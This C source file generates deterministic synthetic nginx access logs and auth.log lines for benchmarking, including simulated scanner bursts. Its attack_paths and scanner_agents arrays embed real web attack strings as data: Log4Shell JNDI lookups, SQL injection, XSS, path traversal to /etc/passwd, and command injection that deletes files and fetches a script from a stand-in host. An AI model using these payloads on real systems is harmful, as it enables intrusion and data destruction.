/*
 * gen.c - deterministic benchmark corpora for `make bench`.
 *
 *   bench-gen nginx  N FILE   nginx "combined" access log, N lines
 *   bench-gen auth   N FILE   Debian auth.log (RFC 3164 syslog), N lines
 *   bench-gen oneline BYTES FILE   one line of BYTES bytes (no newline inside)
 *   bench-gen sparse  BYTES FILE   BYTES of text with a newline every few MB
 *
 * The same arguments always give the same bytes: a fixed-seed PRNG
 * (splitmix64), no rand(), no locale, no time of day, no host name.
 * Times run forward from 2023-11-14T00:00:00Z, so with
 * LOGSHIP_NOW=2023-11-15T00:00:00Z no line is in the future.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

/* 2023-11-14T00:00:00Z */
#define START_EPOCH 1699920000L

static uint64_t rng_state;

static void rng_seed(uint64_t seed) { rng_state = seed; }

/* splitmix64: small, fast and the same everywhere. */
static uint64_t rng_next(void)
{
	uint64_t z = (rng_state += 0x9E3779B97F4A7C15ULL);
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
	return z ^ (z >> 31);
}

/* A number in [0, n). */
static uint32_t rng_below(uint32_t n) { return (uint32_t)(rng_next() % n); }

/* True with probability per_mille / 1000. */
static int rng_chance(uint32_t per_mille) { return rng_below(1000) < per_mille; }

/* An index skewed towards 0 (a few values are very common), in [0, n). */
static uint32_t rng_skewed(uint32_t n)
{
	uint32_t a = rng_below(n), b = rng_below(n), c = rng_below(n);
	uint32_t m = a < b ? a : b;
	return m < c ? m : c;
}

#define PICK(a) ((a)[rng_below(COUNT(a))])

static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
				     "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

/* ---------- addresses ---------- */

/* Public-looking IPv4 clients; pool index -> stable address. */
static void ipv4_of(uint32_t idx, uint32_t salt, char *out, size_t cap)
{
	uint64_t h = (uint64_t)idx * 0x9E3779B97F4A7C15ULL + salt;
	h ^= h >> 29;
	h *= 0xBF58476D1CE4E5B9ULL;
	h ^= h >> 32;
	unsigned a = 1 + (unsigned)(h % 222);
	if (a == 10 || a == 127 || a == 172 || a == 192 || a == 169 || a == 100)
		a += 3;
	snprintf(out, cap, "%u.%u.%u.%u", a, (unsigned)(h >> 8) & 255,
		 (unsigned)(h >> 16) & 255, 1 + (unsigned)((h >> 24) % 254));
}

static void ipv6_of(uint32_t idx, char *out, size_t cap)
{
	uint64_t h = (uint64_t)idx * 0xD6E8FEB86659FD93ULL + 7;
	h ^= h >> 31;
	if (idx % 3 == 0)
		snprintf(out, cap, "2001:db8:%x::%x", (unsigned)(h & 0xffff),
			 (unsigned)((h >> 16) & 0xffff));
	else
		snprintf(out, cap, "2001:db8:%x:%x:%x:%x:%x:%x", (unsigned)(h & 0xffff),
			 (unsigned)((h >> 16) & 0xffff), (unsigned)((h >> 24) & 0xfff),
			 (unsigned)((h >> 36) & 0xffff), (unsigned)((h >> 44) & 0xff),
			 1 + (unsigned)((h >> 52) & 0xfff));
}

/* ---------- nginx combined ---------- */

static const char *const user_agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 Edg/118.0.2088.76",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/119.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.66 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"curl/8.4.0",
	"python-requests/2.31.0",
	"Go-http-client/1.1",
	"kube-probe/1.28",
	"Prometheus/2.47.2",
	"okhttp/4.12.0",
};

static const char *const scanner_agents[] = {
	"sqlmap/1.7.10#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000812)",
	"Mozilla/5.0 zgrab/0.x",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
	"${jndi:ldap://198.51.100.23:1389/Exploit}",
	"Fuzz Faster U Fool v2.1.0-dev",
	"Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)",
};

static const char *const attack_paths[] = {
	"/wp-login.php",
	"/wp-admin/setup-config.php",
	"/.env",
	"/.git/config",
	"/.aws/credentials",
	"/phpmyadmin/index.php",
	"/admin/config.php",
	"/wp-content/plugins/wp-file-manager/readme.txt",
	"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)",
	"/index.php?id=1%27%20OR%201=1--%20-",
	"/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
	"/static/../../../../etc/passwd",
	"/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
	"/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd",
	"/?x=${jndi:ldap://198.51.100.23:1389/a}",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/solr/admin/info/system?wt=json",
	"/actuator/env",
	"/boaform/admin/formLogin",
	"/HNAP1/",
	"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh",
	"/login.php?user=admin%27--&pass=x",
	"/xmlrpc.php",
	"/server-status",
	"/config.json",
	"/backup.sql",
	"/wp-config.php.bak",
};

static const char *const blog_slugs[] = {
	"hello-world", "release-notes-2-4", "scaling-postgres", "why-we-moved-to-nginx",
	"zero-downtime-deploys", "observability-101", "tls-1-3-in-practice",
	"debugging-memory-leaks", "our-on-call-rotation", "rust-vs-go-for-cli-tools",
};

static const char *const search_words[] = {
	"shoes", "red", "laptop", "bag", "usb-c", "cable", "wireless", "headphones",
	"coffee", "grinder", "desk", "lamp", "monitor", "27", "inch", "sale",
};

static const char *const referrers_ext[] = {
	"https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
	"https://t.co/Xy12AbCdEf", "https://news.ycombinator.com/",
	"https://www.reddit.com/r/programming/",
};

static const char *const static_ext[] = {"css", "js", "png", "jpg", "svg", "woff2", "webp"};

static void nginx_path(char *out, size_t cap, int *method_post)
{
	uint32_t r = rng_below(1000);
	*method_post = 0;
	if (r < 300) {
		snprintf(out, cap, "/static/%s/%s.%08x.%s",
			 rng_chance(500) ? "assets" : "build",
			 PICK(((const char *const[]){"app", "vendor", "main", "logo", "hero", "icons"})),
			 (unsigned)(rng_next() & 0xffffffff), PICK(static_ext));
	} else if (r < 380) {
		snprintf(out, cap, "/");
	} else if (r < 520) {
		snprintf(out, cap, "/api/v1/users/%u", 1000 + rng_below(90000));
	} else if (r < 600) {
		snprintf(out, cap, "/api/v1/orders?page=%u&limit=%u&sort=%s", 1 + rng_below(40),
			 PICK(((const unsigned[]){10, 20, 50, 100})),
			 rng_chance(500) ? "created_at" : "-total");
	} else if (r < 680) {
		*method_post = rng_chance(700);
		snprintf(out, cap, "/api/v1/%s", PICK(((const char *const[]){"events", "cart", "checkout", "session", "metrics"})));
	} else if (r < 760) {
		snprintf(out, cap, "/blog/%s", PICK(blog_slugs));
	} else if (r < 830) {
		snprintf(out, cap, "/search?q=%s+%s&page=%u", PICK(search_words), PICK(search_words),
			 1 + rng_below(5));
	} else if (r < 870) {
		snprintf(out, cap, "/favicon.ico");
	} else if (r < 890) {
		snprintf(out, cap, "/robots.txt");
	} else if (r < 940) {
		snprintf(out, cap, "/healthz");
	} else if (r < 960) {
		*method_post = 1;
		snprintf(out, cap, "/login");
	} else if (r < 975) {
		/* Some apps put secrets in URLs: redaction has work to do. */
		snprintf(out, cap, "/reset-password?token=%016llx%016llx&email=user%u%%40example.com",
			 (unsigned long long)rng_next(), (unsigned long long)rng_next(),
			 rng_below(5000));
	} else if (r < 985) {
		snprintf(out, cap, "/api/v1/export?format=csv&api_key=%016llx",
			 (unsigned long long)rng_next());
	} else {
		snprintf(out, cap, "/products/%u/reviews?sort=%s", 100 + rng_below(9000),
			 rng_chance(500) ? "newest" : "rating");
	}
}

static void fmt_nginx_time(long t, char *out, size_t cap)
{
	time_t tt = (time_t)t;
	struct tm tm;
	gmtime_r(&tt, &tm);
	snprintf(out, cap, "%02d/%s/%04d:%02d:%02d:%02d +0000", tm.tm_mday, months[tm.tm_mon],
		 tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
}

static int gen_nginx(long lines, FILE *out)
{
	/* 1M lines over about 20 hours. */
	long t = START_EPOCH;
	uint32_t sub = 0;
	/* A scanner burst: one address sends a run of attack requests. */
	uint32_t burst_left = 0, burst_ip = 0, burst_ua = 0;
	char ip[64], ts[40], path[512], ref[256];

	for (long i = 0; i < lines; i++) {
		sub += rng_below(150);
		if (sub >= 1000) {
			t += sub / 1000;
			sub %= 1000;
		}
		fmt_nginx_time(t, ts, sizeof ts);

		int attack = 0;
		if (burst_left == 0 && rng_chance(1)) {
			/* ~0.1% start a burst of ~20 requests: ~2% of lines overall. */
			burst_left = 5 + rng_below(31);
			burst_ip = rng_below(200);
			burst_ua = rng_below(COUNT(scanner_agents));
		}
		if (burst_left > 0) {
			burst_left--;
			attack = 1;
		}

		const char *method = "GET", *proto = "HTTP/1.1", *ua, *user = "-";
		int status;
		unsigned long bytes;
		if (attack) {
			if (burst_ip % 7 == 0)
				ipv6_of(100000 + burst_ip, ip, sizeof ip);
			else
				ipv4_of(100000 + burst_ip, 0xbad, ip, sizeof ip);
			snprintf(path, sizeof path, "%s", PICK(attack_paths));
			if (rng_chance(150))
				method = "POST";
			ua = scanner_agents[burst_ua];
			if (rng_chance(300))
				ua = PICK(scanner_agents);
			status = PICK(((const int[]){404, 404, 404, 403, 400, 301, 200, 444, 405}));
			bytes = status == 444 ? 0 : 150 + rng_below(400);
			snprintf(ref, sizeof ref, "-");
			if (rng_chance(200))
				proto = "HTTP/1.0";
		} else {
			uint32_t client = rng_skewed(20000);
			if (client % 19 == 3)
				ipv6_of(client, ip, sizeof ip);
			else
				ipv4_of(client, 0, ip, sizeof ip);
			int post;
			nginx_path(path, sizeof path, &post);
			uint32_t m = rng_below(1000);
			if (post)
				method = "POST";
			else if (m < 20)
				method = "HEAD";
			else if (m < 28)
				method = "PUT";
			else if (m < 33)
				method = "DELETE";
			else if (m < 38)
				method = "OPTIONS";
			ua = user_agents[rng_skewed(COUNT(user_agents))];
			uint32_t s = rng_below(1000);
			if (s < 780)
				status = 200;
			else if (s < 860)
				status = 304;
			else if (s < 890)
				status = 301;
			else if (s < 910)
				status = 302;
			else if (s < 950)
				status = 404;
			else if (s < 960)
				status = 401;
			else if (s < 968)
				status = 403;
			else if (s < 975)
				status = 201;
			else if (s < 980)
				status = 204;
			else if (s < 985)
				status = 499;
			else if (s < 992)
				status = 500;
			else if (s < 997)
				status = 502;
			else
				status = 503;
			if (status == 304 || status == 204)
				bytes = 0;
			else if (status >= 300 && status < 400)
				bytes = 162 + rng_below(10);
			else if (strstr(path, "/static/"))
				bytes = 2000 + rng_below(400000);
			else
				bytes = 200 + rng_below(30000);
			uint32_t r = rng_below(1000);
			if (r < 420)
				snprintf(ref, sizeof ref, "-");
			else if (r < 850)
				snprintf(ref, sizeof ref, "https://shop.example.com%s",
					 r < 600 ? "/" : "/blog/scaling-postgres");
			else
				snprintf(ref, sizeof ref, "%s", PICK(referrers_ext));
			if (rng_chance(30))
				user = PICK(((const char *const[]){"alice", "bob", "deploy", "monitor"}));
			if (rng_chance(250))
				proto = "HTTP/2.0";
		}
		if (fprintf(out, "%s - %s [%s] \"%s %s %s\" %d %lu \"%s\" \"%s\"\n", ip, user, ts,
			    method, path, proto, status, bytes, ref, ua) < 0)
			return -1;
	}
	return 0;
}

/* ---------- auth.log ---------- */

static const char *const hosts[] = {"web01", "web02", "db01", "bastion"};
static const char *const staff[] = {"alice", "bob", "carol", "deploy", "ansible", "backup"};
static const char *const guessed_users[] = {
	"admin", "test", "oracle", "postgres", "ubuntu", "user", "guest", "ftpuser",
	"git", "pi", "support", "administrator", "mysql", "nagios", "hadoop", "www",
	"jenkins", "minecraft", "steam", "tomcat",
};
static const char *const sudo_cmds[] = {
	"/usr/bin/apt update", "/usr/bin/systemctl restart nginx",
	"/usr/bin/journalctl -u nginx --since today", "/usr/bin/tail -n 100 /var/log/syslog",
	"/usr/sbin/nginx -t", "/usr/bin/docker ps", "/bin/bash", "/usr/bin/vim /etc/hosts",
};

static void fmt_syslog_time(long t, char *out, size_t cap)
{
	time_t tt = (time_t)t;
	struct tm tm;
	gmtime_r(&tt, &tm);
	snprintf(out, cap, "%s %2d %02d:%02d:%02d", months[tm.tm_mon], tm.tm_mday, tm.tm_hour,
		 tm.tm_min, tm.tm_sec);
}

static void fingerprint(char *out, size_t cap)
{
	static const char b64[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = 0;
	n += (size_t)snprintf(out, cap, "SHA256:");
	for (int k = 0; k < 43 && n + 1 < cap; k++)
		out[n++] = b64[rng_below(64)];
	out[n] = '\0';
}

/* One security-relevant sshd/sudo/pam line from attacker address ip. */
static int auth_security_line(FILE *out, const char *pfx, const char *ip, unsigned pid,
			      unsigned port)
{
	const char *u = PICK(guessed_users);
	switch (rng_below(14)) {
	case 0:
	case 1:
	case 2:
		return fprintf(out, "%s sshd[%u]: Failed password for invalid user %s from %s port %u ssh2\n",
			       pfx, pid, u, ip, port);
	case 3:
	case 4:
		return fprintf(out, "%s sshd[%u]: Failed password for root from %s port %u ssh2\n", pfx,
			       pid, ip, port);
	case 5:
		return fprintf(out, "%s sshd[%u]: Invalid user %s from %s port %u\n", pfx, pid, u, ip,
			       port);
	case 6:
		return fprintf(out, "%s sshd[%u]: Connection closed by invalid user %s %s port %u [preauth]\n",
			       pfx, pid, u, ip, port);
	case 7:
		return fprintf(out, "%s sshd[%u]: Disconnected from authenticating user root %s port %u [preauth]\n",
			       pfx, pid, ip, port);
	case 8:
		return fprintf(out, "%s sshd[%u]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root\n",
			       pfx, pid, ip);
	case 9:
		return fprintf(out, "%s sshd[%u]: error: maximum authentication attempts exceeded for root from %s port %u ssh2 [preauth]\n",
			       pfx, pid, ip, port);
	case 10:
		return fprintf(out, "%s sshd[%u]: Received disconnect from %s port %u:11: Bye Bye [preauth]\n",
			       pfx, pid, ip, port);
	case 11:
		return fprintf(out, "%s sshd[%u]: Connection reset by invalid user %s %s port %u [preauth]\n",
			       pfx, pid, u, ip, port);
	case 12:
		return fprintf(out, "%s sshd[%u]: Unable to negotiate with %s port %u: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]\n",
			       pfx, pid, ip, port);
	default:
		return fprintf(out, "%s sshd[%u]: Did not receive identification string from %s port %u\n",
			       pfx, pid, ip, port);
	}
}

static int gen_auth(long lines, FILE *out)
{
	long t = START_EPOCH;
	unsigned pid = 1200, session = 100;
	uint32_t burst_left = 0, burst_ip = 0;
	char ts[32], pfx[96], ip[64], fp[64];

	for (long i = 0; i < lines; i++) {
		/* 500k lines over about 22 hours. */
		if (rng_chance(150))
			t += 1;
		fmt_syslog_time(t, ts, sizeof ts);
		const char *host = hosts[rng_skewed(COUNT(hosts))];
		snprintf(pfx, sizeof pfx, "%s %s", ts, host);
		pid += 1 + rng_below(7);
		if (pid > 4000000)
			pid = 1200;
		unsigned port = 1024 + rng_below(64000);
		int rc;

		if (burst_left == 0 && rng_chance(5)) {
			/* A brute-force run: ~14 failures from one address. */
			burst_left = 6 + rng_below(16);
			burst_ip = rng_below(300);
		}
		if (burst_left > 0) {
			burst_left--;
			if (burst_ip % 9 == 0)
				ipv6_of(200000 + burst_ip, ip, sizeof ip);
			else
				ipv4_of(200000 + burst_ip, 0x55, ip, sizeof ip);
			rc = auth_security_line(out, pfx, ip, pid, port);
			if (rc < 0)
				return -1;
			continue;
		}

		const char *u = staff[rng_skewed(COUNT(staff))];
		ipv4_of(rng_below(40), 0x1, ip, sizeof ip);
		uint32_t r = rng_below(1000);
		if (r < 280) {
			int opened = rng_chance(500);
			int as_root = rng_chance(700);
			rc = fprintf(out, "%s CRON[%u]: pam_unix(cron:session): session %s for user %s%s\n",
				     pfx, pid, opened ? "opened" : "closed", as_root ? "root" : "www-data",
				     !opened ? "" : as_root ? "(uid=0) by (uid=0)" : "(uid=33) by (uid=0)");
		} else if (r < 400) {
			rc = fprintf(out, "%s CRON[%u]: (%s) CMD (%s)\n", pfx, pid,
				     rng_chance(700) ? "root" : "www-data",
				     PICK(((const char *const[]){
					     "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
					     "cd / && run-parts --report /etc/cron.hourly",
					     "/usr/local/bin/backup.sh >/dev/null 2>&1",
					     "php /var/www/app/artisan schedule:run >> /dev/null 2>&1",
					     "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"})));
		} else if (r < 520) {
			if (rng_chance(500))
				rc = fprintf(out, "%s systemd-logind[%u]: New session %u of user %s.\n", pfx,
					     700 + (unsigned)rng_below(3), session, u);
			else
				rc = fprintf(out, "%s systemd-logind[%u]: Removed session %u.\n", pfx,
					     700 + (unsigned)rng_below(3), session);
			session++;
		} else if (r < 600) {
			rc = fprintf(out, "%s systemd[1]: %s\n", pfx,
				     PICK(((const char *const[]){
					     "Started session-1234.scope - Session 1234 of User deploy.",
					     "Starting logrotate.service - Rotate log files...",
					     "logrotate.service: Deactivated successfully.",
					     "Finished logrotate.service - Rotate log files.",
					     "Started user@1000.service - User Manager for UID 1000.",
					     "Stopping user@1001.service - User Manager for UID 1001...",
					     "phpsessionclean.service: Deactivated successfully.",
					     "Reloading OpenBSD Secure Shell server..."})));
		} else if (r < 680) {
			fingerprint(fp, sizeof fp);
			rc = fprintf(out, "%s sshd[%u]: Accepted publickey for %s from %s port %u ssh2: %s %s\n",
				     pfx, pid, u, ip, port, rng_chance(600) ? "ED25519" : "RSA", fp);
		} else if (r < 740) {
			int opened = rng_chance(500);
			rc = fprintf(out, "%s sshd[%u]: pam_unix(sshd:session): session %s for user %s%s\n", pfx,
				     pid, opened ? "opened" : "closed", u, opened ? "(uid=1000) by (uid=0)" : "");
		} else if (r < 790) {
			rc = fprintf(out, "%s sshd[%u]: %s\n", pfx, pid,
				     rng_chance(500) ? "Received disconnect from 10.0.0.5 port 50122:11: disconnected by user"
						     : "Disconnected from user deploy 10.0.0.5 port 50122");
		} else if (r < 820) {
			rc = fprintf(out, "%s sshd[%u]: Accepted password for %s from %s port %u ssh2\n", pfx,
				     pid, u, ip, port);
		} else if (r < 870) {
			rc = fprintf(out, "%s sudo: %8s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s\n",
				     pfx, u, rng_below(4), u, PICK(sudo_cmds));
		} else if (r < 910) {
			int opened = rng_chance(500);
			rc = fprintf(out, "%s sudo: pam_unix(sudo:session): session %s for user root%s\n", pfx,
				     opened ? "opened" : "closed", opened ? "(uid=0) by alice(uid=1000)" : "");
		} else if (r < 930) {
			rc = fprintf(out, "%s kernel: [%u.%06u] %s\n", pfx, 100000 + (unsigned)(i / 10),
				     rng_below(1000000),
				     PICK(((const char *const[]){
					     "EXT4-fs (sda1): re-mounted. Quota mode: none.",
					     "audit: type=1400 audit(1699950000.123:456): apparmor=\"STATUS\" operation=\"profile_replace\" profile=\"unconfined\" name=\"nginx\" pid=2345 comm=\"apparmor_parser\"",
					     "perf: interrupt took too long (2503 > 2500), lowering kernel.perf_event_max_sample_rate to 79750",
					     "nf_conntrack: default automatic helper assignment has been turned off for security reasons"})));
		} else if (r < 955) {
			char src[64];
			ipv4_of(300000 + rng_below(5000), 0x77, src, sizeof src);
			rc = fprintf(out, "%s kernel: [%u.%06u] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=%s DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=%u ID=%u PROTO=TCP SPT=%u DPT=%u WINDOW=1024 RES=0x00 SYN URGP=0\n",
				     pfx, 100000 + (unsigned)(i / 10), rng_below(1000000), src,
				     40 + rng_below(200), rng_below(65536), port,
				     PICK(((const unsigned[]){23, 445, 3389, 8080, 5900, 1433, 6379, 2375})));
		} else if (r < 970) {
			char src[64];
			ipv4_of(400000 + rng_below(3000), 0x33, src, sizeof src);
			rc = auth_security_line(out, pfx, src, pid, port);
		} else if (r < 978) {
			rc = fprintf(out, "%s sudo: %8s : %u incorrect password attempt%s ; TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s\n",
				     pfx, u, 1 + rng_below(3), "s", rng_below(4), u, PICK(sudo_cmds));
		} else if (r < 982) {
			rc = fprintf(out, "%s sudo:  mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/cat /etc/shadow\n",
				     pfx);
		} else if (r < 986) {
			rc = fprintf(out, "%s su[%u]: pam_unix(su:auth): authentication failure; logname=%s uid=1000 euid=0 tty=/dev/pts/0 ruser=%s rhost=  user=root\n",
				     pfx, pid, u, u);
		} else if (r < 990) {
			rc = fprintf(out, "%s sshd[%u]: Server listening on %s port 22.\n", pfx, pid,
				     rng_chance(500) ? "0.0.0.0" : "::");
		} else if (r < 995) {
			rc = fprintf(out, "%s polkitd[%u]: Registered Authentication Agent for unix-session:%u (system bus name :1.%u [/usr/bin/gnome-shell], object path /org/freedesktop/PolicyKit1/AuthenticationAgent, locale en_US.UTF-8)\n",
				     pfx, 600 + (unsigned)rng_below(10), session, rng_below(900));
		} else {
			rc = fprintf(out, "%s usermod[%u]: add '%s' to group 'docker'\n", pfx, pid, u);
		}
		if (rc < 0)
			return -1;
	}
	return 0;
}

/* ---------- memory-check files ---------- */

static int gen_text(long bytes, long newline_every, FILE *out)
{
	static const char alphabet[] =
		"abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ 0123456789 =:/.-_\"[]";
	char block[65536];
	long written = 0, since_nl = 0;
	while (written < bytes) {
		size_t n = sizeof block;
		if ((long)n > bytes - written)
			n = (size_t)(bytes - written);
		for (size_t k = 0; k < n; k++) {
			if (newline_every > 0 && since_nl >= newline_every && k + 1 < n) {
				block[k] = '\n';
				since_nl = 0;
				continue;
			}
			block[k] = alphabet[rng_below(sizeof alphabet - 1)];
			since_nl++;
		}
		if (written + (long)n >= bytes)
			block[n - 1] = '\n';
		if (fwrite(block, 1, n, out) != n)
			return -1;
		written += (long)n;
	}
	return 0;
}

int main(int argc, char **argv)
{
	int rc = 1;
	FILE *out = NULL;
	if (argc != 4) {
		fprintf(stderr, "usage: bench-gen nginx|auth|oneline|sparse COUNT FILE\n");
		return 2;
	}
	long count = strtol(argv[2], NULL, 10);
	if (count <= 0) {
		fprintf(stderr, "bench-gen: bad count '%s'\n", argv[2]);
		return 2;
	}
	out = fopen(argv[3], "w");
	if (!out) {
		perror(argv[3]);
		return 1;
	}
	static char outbuf[1 << 20];
	setvbuf(out, outbuf, _IOFBF, sizeof outbuf);

	if (strcmp(argv[1], "nginx") == 0) {
		rng_seed(0x6c6f677368697001ULL);
		rc = gen_nginx(count, out);
	} else if (strcmp(argv[1], "auth") == 0) {
		rng_seed(0x6c6f677368697002ULL);
		rc = gen_auth(count, out);
	} else if (strcmp(argv[1], "oneline") == 0) {
		rng_seed(0x6c6f677368697003ULL);
		rc = gen_text(count, 0, out);
	} else if (strcmp(argv[1], "sparse") == 0) {
		/* A newline every 24 MiB: four giant "lines" in 100 MB. */
		rng_seed(0x6c6f677368697004ULL);
		rc = gen_text(count, 24L << 20, out);
	} else {
		fprintf(stderr, "bench-gen: unknown corpus '%s'\n", argv[1]);
		rc = 2;
	}
	if (fclose(out) != 0 && rc == 0) {
		perror(argv[3]);
		rc = 1;
	}
	return rc == 0 ? 0 : (rc == 2 ? 2 : 1);
}
